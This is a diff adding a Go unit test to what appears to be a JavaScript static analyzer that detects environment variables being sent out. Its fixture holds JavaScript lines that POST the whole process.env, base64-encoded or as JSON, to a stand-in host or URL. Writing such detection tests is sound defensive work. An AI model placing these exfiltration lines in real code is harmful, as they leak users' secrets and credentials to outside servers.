@@ -473,3 +473,23 @@ eval(other);`
 		t.Errorf("eval file args %q, want %q", got, want)
 	}
 }
+
+func TestEnvSent(t *testing.T) {
+	src := `const https = require("https");
+https.request({ hostname: "h.example.invalid", method: "POST" }).end(Buffer.from(JSON.stringify(process.env)).toString("base64"));
+const d = JSON.stringify({ e: process.env, t: Date.now() }); const req = https.request(opts); req.write(d);
+fetch(u, { method: "POST", body: JSON.stringify({ ...process.env }) });
+fetch(u, { headers: { home: process.env.HOME } });
+require("child_process").spawn("node", [], { env: process.env });`
+	f := Analyze("x.js", []byte(src), DefaultLimits())
+	var sent []string
+	for _, e := range f.Env {
+		if strings.HasPrefix(e.How, "sent:") {
+			sent = append(sent, e.How+"@"+itoa(e.Pos.Line))
+		}
+	}
+	want := []string{"sent:https.request().end@2", "sent:req.write@3", "sent:fetch@4"}
+	if strings.Join(sent, " ") != strings.Join(want, " ") {
+		t.Errorf("env sent %q, want %q", sent, want)
+	}
+}
